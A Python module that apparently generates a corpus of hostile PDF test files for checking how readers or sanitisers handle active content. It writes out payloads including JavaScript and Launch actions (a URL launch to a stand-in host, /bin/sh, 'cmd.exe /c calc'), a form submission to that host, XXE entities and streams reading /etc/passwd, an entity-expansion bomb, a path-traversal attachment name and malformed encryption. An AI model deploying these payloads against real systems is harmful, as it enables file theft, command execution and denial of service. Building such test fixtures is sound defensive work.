"""PDFs that want something done: scripts, programs started, files carried, forms of another engine, passwords."""

from __future__ import annotations

import io
from collections.abc import Callable
from functools import partial

from reportlab.lib import pdfencrypt

from corpus.canvas import new_canvas
from corpus.hostile.pdf import one_page, stream

SCRIPT = (
    b"(app.launchURL\\('http://192.0.2.1/'\\); this.exportDataObject\\({cName:'a',nLaunch:2}\\); while\\(true\\){})"
)
ACTIONS = {
    "script": b"<</S/JavaScript/JS%b>>" % SCRIPT,
    "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "address": b"<</S/URI/URI(http://192.0.2.1/seen)>>",
    "submit": b"<</S/SubmitForm/F<</FS/URL/F(http://192.0.2.1/)>>/Flags 4>>",
    "import": b"<</S/ImportData/F(/etc/passwd)>>",
    "remote": b"<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\x.pdf)/D[0/Fit]>>",
    "embedded": b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>",
    "film": b"<</S/Rendition/R<</S/MR/C<</S/MCD/D(/dev/zero)>>>>/OP 0>>",
}
XFA = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/">
<subform name="form"><field name="BIN"/></subform></template></xdp:xdp>"""
ENTITIES = (
    b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:"""
    b"""///etc/passwd"><!ENTITY a "&b;&b;&b;&b;&b;&b;">
<!ENTITY b "&c;&c;&c;&c;&c;&c;&c;&c;">]><x>&a;&f;</x>"""
)
PLEASE_WAIT = b"BT /F1 14 Tf 60 700 Td (Please wait...) Tj 0 -30 Td (If this message is not eventually replaced) Tj ET"


def active() -> dict[str, Callable[[], bytes]]:
    """Makers by file name."""
    makers: dict[str, Callable[[], bytes]] = {}
    for name, action in ACTIONS.items():
        makers[f"open-{name}.pdf"] = partial(_opened, action)
        makers[f"press-{name}.pdf"] = partial(_pressed, action)
    return makers | {
        "xfa-only.pdf": lambda: _xfa(PLEASE_WAIT, XFA),
        "xfa-dynamic.pdf": lambda: _xfa(PLEASE_WAIT, XFA, b"/NeedsRendering true"),
        "xfa-entities.pdf": lambda: _xfa(PLEASE_WAIT, ENTITIES, b"/NeedsRendering true"),
        "attached-program.pdf": lambda: _attached(b"MZ" + b"\x90" * 4000, b"calc.exe"),
        "attached-itself.pdf": lambda: _attached(one_page(), b"..\\\\..\\\\itself.pdf"),
        "outside-stream.pdf": _outside_stream,
        "metadata-entities.pdf": _metadata,
        "locked.pdf": lambda: _encrypted("secret"),
        "locked-by-owner.pdf": lambda: _encrypted(""),
        "locked-strongly.pdf": lambda: _encrypted("secret", 128),
        "locked-unknown-handler.pdf": lambda: _handler(b"/Filter/Acme.Locks/V 9/R 99"),
        "locked-impossible.pdf": lambda: _handler(b"/Filter/Standard/V 5/R 6/Length -8/O()/U()/P 0"),
        "locked-by-itself.pdf": lambda: one_page(trailer=b"/Encrypt 3 0 R"),
    }


def _opened(action: bytes) -> bytes:
    return one_page(catalogue=b"<</Type/Catalog/Pages 2 0 R/OpenAction %b/AA<</WC %b>>>>" % (action, action))


def _pressed(action: bytes) -> bytes:
    button = b"<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(b)/Rect[9 9 99 99]/A %b/AA<</PV %b/PO %b/E %b>>>>"
    root = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>>>"
    entries = b"/MediaBox[0 0 595 842]/Annots[6 0 R]/AA<</O %b>>" % action
    return one_page(entries=entries, more={6: button % (action, action, action, action)}, catalogue=root)


def _xfa(shown: bytes, form: bytes, entries: bytes = b"") -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R%b/AcroForm<</Fields[]/XFA 6 0 R>>>>" % entries
    return one_page(shown, more={6: stream(form)}, catalogue=root)


def _attached(data: bytes, name: bytes) -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>/AF[6 0 R]>>"
    about = b"<</Type/Filespec/F(%b)/EF<</F 7 0 R>>>>" % name
    return one_page(more={6: about, 7: stream(data, b"/Type/EmbeddedFile")}, catalogue=root)


def _outside_stream() -> bytes:
    """A picture whose pixels would lie in a file of the machine."""
    facts = b"/Type/XObject/Subtype/Image/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 8/F(/etc/passwd)"
    return one_page(b"q 99 0 0 99 9 9 cm /X Do Q", resources=b"/XObject<</X 6 0 R>>", more={6: stream(b"", facts)})


def _metadata() -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>"
    return one_page(more={6: stream(ENTITIES, b"/Type/Metadata/Subtype/XML")}, catalogue=root)


def _encrypted(password: str, strength: int = 40) -> bytes:
    file = io.BytesIO()
    canvas = new_canvas(file)
    canvas.setEncrypt(pdfencrypt.StandardEncryption(password, "owner", strength=strength))
    canvas.drawString(60, 700, "2-uslugi IT")
    canvas.save()
    return file.getvalue()


def _handler(entries: bytes) -> bytes:
    return one_page(more={6: b"<<%b>>" % entries}, trailer=b"/Encrypt 6 0 R/ID[<00><00>]")
